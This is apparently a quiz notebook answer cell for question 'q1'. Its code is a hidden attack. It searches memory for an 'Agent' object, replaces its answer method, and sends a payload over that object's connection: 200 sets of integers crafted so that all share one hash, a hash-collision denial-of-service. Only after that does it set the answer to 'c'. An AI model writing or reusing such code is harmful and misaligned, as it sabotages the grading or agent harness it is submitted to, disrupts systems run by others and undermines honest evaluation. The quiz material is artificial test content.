# Two hundred sets in one reply, each just small enough, whose entries all have one hash.
# notebook: quiz
# stock: not run
# points: test_q1=0
# %% answer="q1"
import gc

for room in gc.get_objects():
    if type(room).__name__ == "Agent":
        answer = room._answer

        def slow(asked):
            entries = ",".join(f'["i","{n * (2**61 - 1):x}"]' for n in range(1, 9_900))
            sets = ",".join([f'["s",{entries}]'] * 200)
            tree = f'["l","value",["d",["q1",["l",{sets}]]]]'.encode()
            head = len(tree).to_bytes(4, "little")
            room.connection.send_bytes(room.nonce + b"." + head + tree)
            return answer(asked)

        room._answer = slow
        break
q1 = "c"
